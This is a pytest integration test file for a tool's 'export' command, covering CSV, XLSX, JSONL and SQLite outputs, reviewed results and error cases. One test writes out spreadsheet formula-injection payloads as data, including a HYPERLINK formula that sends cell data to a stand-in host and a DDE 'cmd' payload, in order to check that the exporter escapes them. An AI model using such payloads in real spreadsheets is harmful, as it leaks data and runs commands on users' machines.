"""Exports of real results: open each file again, as the program that it is for would."""

import csv
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import zipfile
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from jobs.cli import RequestedHome, invoke
from jobs.commands.documents.export import FORMATS
from jobs.documents.outbox import publish
from jobs.documents.readings import keep_reading
from jobs.ledger.ledger import Ledger
from jobs.ledger.records import Job, State
from jobs.results.settle import settle
from jobs.settings import Settings
from jobs.terminal.error_messages import guarded
from pipelines.document import Document, Page
from pipelines.loader import load_pipelines
from pipelines.result import Decision, Evidence, GuardrailRecord, Outcome, Status
from tests.conftest import ROOT, TEST_MODEL
from tests.integration import cli_helpers
from tests.unit.jobs.kit import add_pending, make_job, make_result

PIPELINES = load_pipelines()[0]
ITEM = {
    "task": "Send the plan", "owner": "Ann", "due": "Friday", "due_date": None,
    "quote": "Ann sends the plan by Friday.",
}  # fmt: skip


@dataclass(frozen=True)
class Home:
    """Commands in the current folder, in this process."""

    path: Path
    captured: pytest.CaptureFixture[str]

    def call(self, *words: str) -> subprocess.CompletedProcess[str]:
        place = RequestedHome()
        code = guarded(lambda: invoke(list(words), place), place)
        return subprocess.CompletedProcess(words, code, *self.captured.readouterr())


@pytest.fixture
def home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> Home:
    monkeypatch.setenv("JOBS_MODEL", str(TEST_MODEL))
    monkeypatch.setenv("HOME", str(tmp_path / "user"))
    monkeypatch.chdir(tmp_path)
    return Home(tmp_path, capfd)


def done(
    settings: Settings,
    ledger: Ledger,
    name: str,
    output: dict[str, Any],
    pipeline: str = "extract",
    status: Status = Status.SUCCEEDED,
    **changes: Any,
) -> Job:
    """A job whose result is in the outbox."""
    data = name.encode()
    job = make_job(name, data, pipeline=pipeline)
    (settings.documents_dir / job.sha256).write_bytes(data)
    ledger.intend(job, forced=True)
    ledger.promote(job.id, job.sha256, job.size)
    result = make_result(job, status, **output)
    record = result.pipeline.model_copy(update={"digest": PIPELINES[pipeline].digest})
    result = result.model_copy(update={"pipeline": record, **changes})
    path = publish(settings, job, result)
    ledger.finish(job.id, State(status), result_path=str(path))
    return ledger.find(job.id)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines(keepends=True)))


def test_csv_has_a_row_for_each_item_with_confidence_and_page(
    settings: Settings, ledger: Ledger, home: Home
) -> None:
    place = Evidence(path="/action_items/1/owner", quote="Ann", page=3, start=0, end=3)
    flag = GuardrailRecord(name="owners", verdict=Outcome.FLAGGED, detail="who is Ann?")
    job = done(
        settings, ledger, "minutes.txt", {"action_items": [ITEM, ITEM | {"task": "Book a room"}]},
        status=Status.NEEDS_REVIEW, evidence=[place], confidence={"/action_items/1/owner": 0.4},
        guardrails=[flag],
    )  # fmt: skip
    done(settings, ledger, "empty.txt", {"action_items": []})
    ended = home.call("export", "--pipeline", "extract")
    assert (ended.returncode, ended.stderr) == (0, "")
    first, second, empty = table(ended.stdout)
    assert (first["id"], first["document"], first["item"]) == (job.id, "minutes.txt", "1")
    assert (second["item"], second["task"], second["owner"]) == ("2", "Book a room", "Ann")
    assert (second["owner_confidence"], second["owner_page"]) == ("0.4", "3")
    assert (first["owner_confidence"], first["owner_page"]) == ("", "")
    assert (first["status"], first["flags"]) == ("needs_review", "owners: who is Ann?")
    assert first["result"] == job.result_path
    assert (empty["document"], empty["item"], empty["task"]) == ("empty.txt", "", "")
    back = home.call(*first["original"].split()[1:])
    assert back.returncode == 0
    assert (home.path / "minutes.txt").read_text() == "minutes.txt"


def test_what_a_person_settled_holds(settings: Settings, ledger: Ledger, home: Home) -> None:
    job = done(settings, ledger, "a.txt", {"action_items": [ITEM]}, status=Status.NEEDS_REVIEW)
    done(settings, ledger, "b.txt", {"action_items": [ITEM]})
    gone = done(settings, ledger, "c.txt", {"action_items": [ITEM]}, status=Status.NEEDS_REVIEW)
    settle(settings, ledger, job.id, Decision.CORRECTED, by="Eve", seen=0,
           output={"action_items": [ITEM | {"owner": "Bob"}]})  # fmt: skip
    settle(settings, ledger, gone.id, Decision.REJECTED, by="Eve", seen=0)
    rows = table(home.call("export").stdout)
    assert [(row["document"], row["owner"], row["reviewed_by"]) for row in rows] == [
        ("a.txt", "Bob", "Eve"),
        ("b.txt", "Ann", ""),
    ]
    assert "/outbox/reviewed/extract/" in rows[0]["result"]
    assert [row["document"] for row in table(home.call("export", "--reviewed").stdout)] == ["a.txt"]
    rejected = table(home.call("export", "--state", "rejected").stdout)
    assert [row["document"] for row in rejected] == ["c.txt"]
    settle(settings, ledger, job.id, Decision.REOPENED, by="Eve", seen=1)
    [row] = table(home.call("export", "--state", "needs_review").stdout)
    assert (row["owner"], row["reviewed_by"]) == ("Ann", "")


def test_csv_cells_are_harmless(settings: Settings, ledger: Ledger, home: Home) -> None:
    bad = '=HYPERLINK("http://evil.test/"&A1)'
    output = {"supplier": bad, "number": "-12.50", "date": "+1+cmd|' /C calc'!A0",
              "due": "@SUM(1)", "due_date": None, "tax": "\t=1", "total": -3}  # fmt: skip
    done(settings, ledger, "=1+1.pdf", output, "invoice")
    [row] = table(home.call("export").stdout)
    assert row["document"] == "'=1+1.pdf"
    assert row["supplier"] == f"'{bad}"
    assert [row[key] for key in ("number", "total")] == ["-12.50", "-3"]
    assert all(row[key].startswith("'") for key in ("date", "due", "tax"))


def test_older_definitions_keep_their_fields(
    settings: Settings, ledger: Ledger, home: Home
) -> None:
    done(settings, ledger, "old.eml", {"team": "billing", "urgency": "low"}, "route-email")
    new = {"reason": "asks for a refund", "queue": "billing", "urgency": "low"}
    done(settings, ledger, "new.eml", new, "route-email")
    old, second = table(home.call("export").stdout)
    names = list(old)
    assert names.index("reason") < names.index("queue") < names.index("urgency")
    assert names[names.index("team") :] == ["team", "flags", "model", "result", "original"]
    assert (old["team"], old["queue"], second["team"]) == ("billing", "", "")


def test_several_pipelines_make_several_csv_files(
    settings: Settings, ledger: Ledger, home: Home
) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM]})
    points = {"title": "T", "summary": "S", "key_points": ["one", "two"]}
    done(settings, ledger, "b.txt", points, "summarise")
    ended = home.call("export", "-o", "all.csv")
    assert ended.returncode == 2
    assert "several tables (extract, summarise)" in ended.stderr
    assert not (home.path / "all.csv").exists()
    ended = home.call("export", "-o", "tables/")
    assert ended.returncode == 0
    assert sorted(path.name for path in (home.path / "tables").iterdir()) == [
        "extract.csv",
        "summarise.csv",
    ]
    [row] = table((home.path / "tables/summarise.csv").read_text())
    assert row["key_points"] == "one\ntwo"


def test_lists_are_chosen(settings: Settings, ledger: Ledger, home: Home) -> None:
    line = {"description": "Paper", "quantity": "2", "unit_price": "3", "amount": "6"}
    invoice = {"supplier": "Blatt & Co", "total": "12", "lines": [line, line]}
    done(settings, ledger, "i.pdf", invoice, "invoice")
    [row] = table(home.call("export").stdout)
    assert json.loads(row["lines"]) == [line, line]
    rows = table(home.call("export", "--pipeline", "invoice", "--list", "lines").stdout)
    assert [(row["item"], row["description"], row["supplier"]) for row in rows] == [
        ("1", "Paper", "Blatt & Co"),
        ("2", "Paper", "Blatt & Co"),
    ]
    ended = home.call("export", "--pipeline", "invoice", "--list", "nope")
    assert ended.returncode == 2
    assert "those of pipeline invoice are lines" in ended.stderr


S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheets(path: Path) -> dict[str, list[dict[str, tuple[str, str]]]]:
    """Return each sheet's rows: by name of the column the type and the value of the cell."""
    found = {}
    with zipfile.ZipFile(path) as book:
        names = etree.fromstring(book.read("xl/workbook.xml")).iter(f"{S}sheet")
        for number, sheet in enumerate(names, 1):
            root = etree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            assert root.find(f".//{S}f") is None, "a formula"
            lines = [
                {
                    str(cell.get("r")).rstrip("0123456789"): (
                        cell.get("t", "n"),
                        "".join(cell.itertext()),
                    )
                    for cell in row
                }
                for row in root.iter(f"{S}row")
            ]
            heads = {column: value for column, (_, value) in lines[0].items()}
            found[str(sheet.get("name"))] = [
                {heads[column]: value for column, value in line.items()} for line in lines[1:]
            ]
    return found


def test_xlsx_has_a_sheet_for_each_table(settings: Settings, ledger: Ledger, home: Home) -> None:
    decided = [{"decision": "=1+1", "quote": "\x01We go."}]
    minutes = {"decisions": decided, "action_items": [ITEM | {"sentiment": "neutral"}]}
    done(settings, ledger, "m.txt", minutes, "minutes",
         confidence={"/decisions/0/decision": 0.75})  # fmt: skip
    long = {"title": "+1", "summary": "x" * 40_000, "key_points": []}
    done(settings, ledger, "s.txt", long, "summarise")
    ended = home.call("export", "-o", "night.xlsx")
    assert ended.returncode == 0
    assert ended.stdout == f"2 results, 3 rows: {home.path}/night.xlsx\n"
    found = sheets(home.path / "night.xlsx")
    assert list(found) == ["minutes_decisions", "minutes_action_items", "summarise"]
    [row] = found["minutes_decisions"]
    assert row["decision"] == ("inlineStr", "=1+1")
    assert row["decision_confidence"] == ("n", "0.75")
    assert row["quote"] == ("inlineStr", "We go.")
    [row] = found["summarise"]
    assert row["summary"][1].endswith("[cut: 40,000 characters, the result has all]")
    assert len(row["summary"][1]) == 32_767
    assert [path.name for path in home.path.glob("*.part")] == []


def test_xlsx_can_be_read_by_our_own_parser(settings: Settings, ledger: Ledger, home: Home) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM | {"owner": "Zoë 🎉"}]})
    home.call("export", "-o", "out.xlsx")
    program = cli_helpers.Home(home.path)  # `text` becomes another program
    submitted = program.json("submit", "out.xlsx", "--pipeline", "summarise")
    text = program.call("text", submitted["documents"][0]["id"])
    assert "Send the plan" in text.stdout
    assert "Zoë 🎉" in text.stdout


def test_jsonl_keeps_values_as_they_are(settings: Settings, ledger: Ledger, home: Home) -> None:
    points = {"title": "=1", "summary": "x" * 40_000, "key_points": ["one", "two"]}
    done(settings, ledger, "s.txt", points, "summarise")
    [line] = home.call("export", "--format", "jsonl").stdout.splitlines()
    record = json.loads(line)
    assert record["title"] == "=1"
    assert record["key_points"] == ["one", "two"]
    assert len(record["summary"]) == 40_000
    assert list(record)[:3] == ["id", "document", "pipeline"]


def test_sqlite_has_documents_and_items(settings: Settings, ledger: Ledger, home: Home) -> None:
    line = {"description": "Paper", "quantity": "2", "unit_price": "3", "amount": "6"}
    done(settings, ledger, "i.pdf", {"supplier": "Blatt", "lines": [line, line]}, "invoice")
    done(settings, ledger, "j.pdf", {"supplier": "Kiel", "lines": []}, "invoice")
    done(settings, ledger, "e.eml", {"queue": "sales"}, "route-email")
    for _ in range(2):  # the second one replaces the first
        assert home.call("export", "-o", "out.sqlite").returncode == 0
    with closing(sqlite3.connect(home.path / "out.sqlite")) as database:
        tables = database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        assert sorted(tables) == [("invoice",), ("invoice_lines",), ("route-email",)]
        query = """SELECT supplier, item, amount FROM invoice
                   LEFT JOIN invoice_lines USING (id) ORDER BY supplier, item"""
        assert database.execute(query).fetchall() == [
            ("Blatt", 1, "6"),
            ("Blatt", 2, "6"),
            ("Kiel", None, None),
        ]
        assert database.execute('SELECT queue FROM "route-email"').fetchall() == [("sales",)]
        assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]


def test_unreadable_results_are_named_and_the_rest_is_written(
    settings: Settings, ledger: Ledger, home: Home
) -> None:
    gone = done(settings, ledger, "gone.txt", {"action_items": [ITEM]})
    torn = done(settings, ledger, "torn.txt", {"action_items": [ITEM]})
    done(settings, ledger, "good.txt", {"action_items": [ITEM]})
    Path(str(gone.result_path)).unlink()
    Path(str(torn.result_path)).write_text('{"schema":')
    ended = home.call("export")
    assert ended.returncode == 1
    assert [row["document"] for row in table(ended.stdout)] == ["good.txt"]
    assert f"not exported: gone.txt: {gone.result_path} is no longer there" in ended.stderr
    assert f"not exported: torn.txt: {torn.result_path} is not a result" in ended.stderr


def test_nothing_to_export_writes_nothing(settings: Settings, ledger: Ledger, home: Home) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM]})
    kept = home.path / "out.csv"
    kept.write_text("of yesterday")
    ended = home.call("export", "--until", "2000-01-01", "-o", "out.csv")
    assert ended.returncode == 3
    assert ended.stderr == "no such results: nothing is written\n"
    assert kept.read_text() == "of yesterday"
    assert home.call("export", "--until", "2000-01-01").returncode == 3
    assert home.call("export", "--since", "1h").returncode == 0


def test_a_home_without_a_ledger(home: Home) -> None:
    assert home.call("export").returncode == 3


def test_an_archive_is_no_row(settings: Settings, ledger: Ledger, home: Home) -> None:
    members = [{"name": "a.txt", "id": "0" * 32}]
    job = add_pending(settings, ledger, "mails.zip", b"zip")
    result = make_result(job).model_copy(update={"output": {}})
    result = type(result).model_validate(
        result.model_dump(by_alias=True) | {"documents": members, "output": {}}
    )
    path = publish(settings, job, result)
    ledger.finish(job.id, State.SUCCEEDED, result_path=str(path))
    assert home.call("export").returncode == 3


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--gold", "--format", "xlsx"], "--gold has a format of its own"),
        (["--no-text"], "--no-text belongs to --gold"),
        (["--reviewed", "--state", "rejected"], "exclude each other"),
        (["--since", "yesterday-ish"], "is no time"),
        (["--format", "csv", "-o", "a.xlsx"], "is the name of a xlsx file"),
        (["--list", "lines"], "--list needs --pipeline"),
        (["-o", "inbox", "--format", "xlsx"], "is a folder"),
    ],
)
def test_wrong_use(words: list[str], says: str, settings: Settings, home: Home) -> None:
    ended = home.call("export", *words)
    assert ended.returncode == 2
    assert says in ended.stderr


def test_a_place_that_cannot_be_written(settings: Settings, ledger: Ledger, home: Home) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM]})
    ended = home.call("export", "-o", "missing/folder/a.xlsx")
    assert ended.returncode == 2
    assert "a.xlsx cannot be written: No such file or directory" in ended.stderr
    assert [path.name for path in settings.state_dir.glob("export-*")] == []


def test_what_a_killed_export_left_goes(settings: Settings, ledger: Ledger, home: Home) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM]})
    old, new = (settings.state_dir / f"export-{name}" for name in ("old", "new"))
    for folder in (old, new):
        folder.mkdir()
        (folder / "export").write_text("a part")
    os.utime(old, (0, 0))
    home.call("export")
    assert [path for path in (old, new) if path.exists()] == [new]


def test_what_a_file_may_be_read_by(settings: Settings, ledger: Ledger, home: Home) -> None:
    done(settings, ledger, "a.txt", {"action_items": [ITEM]})
    home.call("export", "-o", "a.csv")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE((home.path / "a.csv").stat().st_mode) == 0o666 & ~umask


def test_gold(settings: Settings, ledger: Ledger, home: Home) -> None:
    items = {"action_items": [ITEM]}
    corrected = done(settings, ledger, "a.txt", items, status=Status.NEEDS_REVIEW)
    accepted = done(settings, ledger, "b.txt", items, status=Status.NEEDS_REVIEW)
    rejected = done(settings, ledger, "c.txt", items, status=Status.NEEDS_REVIEW)
    reopened = done(settings, ledger, "d.txt", items, status=Status.NEEDS_REVIEW)
    done(settings, ledger, "e.txt", items)
    text = "Ann sends the plan by Friday."
    reading = Document(text=text, media_type="text/plain", pages=(Page(1, 0, len(text)),))
    keep_reading(settings, corrected.sha256, reading)
    person = {"action_items": [ITEM | {"owner": "Bob"}, ITEM]}
    settle(settings, ledger, corrected.id, Decision.CORRECTED, by="Eve", seen=0, output=person,
           reason="Bob does it")  # fmt: skip
    for job in (accepted, reopened):
        settle(settings, ledger, job.id, Decision.ACCEPTED, by="Eve", seen=0)
    settle(settings, ledger, rejected.id, Decision.REJECTED, by="Eve", seen=0)
    settle(settings, ledger, reopened.id, Decision.REOPENED, by="Eve", seen=1)

    ended = home.call("export", "--gold")
    assert ended.returncode == 0
    assert ended.stderr == "without text, which was not kept: 2 documents\n"
    records = [json.loads(line) for line in ended.stdout.splitlines()]
    assert [(one["document"], one["decision"]) for one in records] == [
        ("a.txt", "corrected"),
        ("b.txt", "accepted"),
        ("c.txt", "rejected"),
    ]
    first = records[0]
    assert first["text"] == text
    assert first["pipeline"] == {"name": "extract", "digest": PIPELINES["extract"].digest}
    assert first["machine"] == items
    assert first["person"] == person
    assert first["reason"] == "Bob does it"
    assert first["changes"] == [
        {"path": "/action_items/0", "change": "added", "after": person["action_items"][0]}
    ]
    assert records[1]["changes"] == []
    assert (records[2]["person"], records[2]["changes"]) == (None, [])
    assert "Eve" not in ended.stdout
    assert home.call("export", "--gold").stdout == ended.stdout

    home.call("export", "--gold", "--no-text", "-o", "gold.jsonl")
    lines = (home.path / "gold.jsonl").read_text().splitlines()
    assert len(lines) == 3
    assert all("text" not in json.loads(line) for line in lines)


def shown() -> list[str]:
    """The commands that the documentation shows."""
    text = (ROOT / "docs" / "export.md").read_text(encoding="utf-8")
    return [line.strip() for line in text.splitlines() if line.startswith("    nightshift export")]


@pytest.mark.parametrize("line", shown())
def test_what_the_documentation_shows(
    line: str, settings: Settings, ledger: Ledger, home: Home
) -> None:
    if "| jq" in line and shutil.which("jq") is None:
        pytest.skip("no jq on this machine")
    item = {"description": "Paper", "quantity": "2", "unit_price": "3", "amount": "6"}
    done(settings, ledger, "i.pdf", {"supplier": "Blatt", "lines": [item]}, "invoice")
    job = done(settings, ledger, "a.txt", {"action_items": [ITEM]}, status=Status.NEEDS_REVIEW)
    settle(settings, ledger, job.id, Decision.ACCEPTED, by="Eve", seen=0)
    line = line.replace("/srv/books/", "")  # a folder of the reader
    program = f'nightshift() {{ "{sys.executable}" -m jobs "$@"; }}; set -e; {line}'
    ended = subprocess.run(
        ["sh", "-c", program],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
    )
    assert ended.returncode == 0, ended.stderr
    written = [path for path in home.path.iterdir() if path.suffix[1:] in FORMATS]
    assert written or "Paper" in ended.stdout or "accepted" in ended.stdout
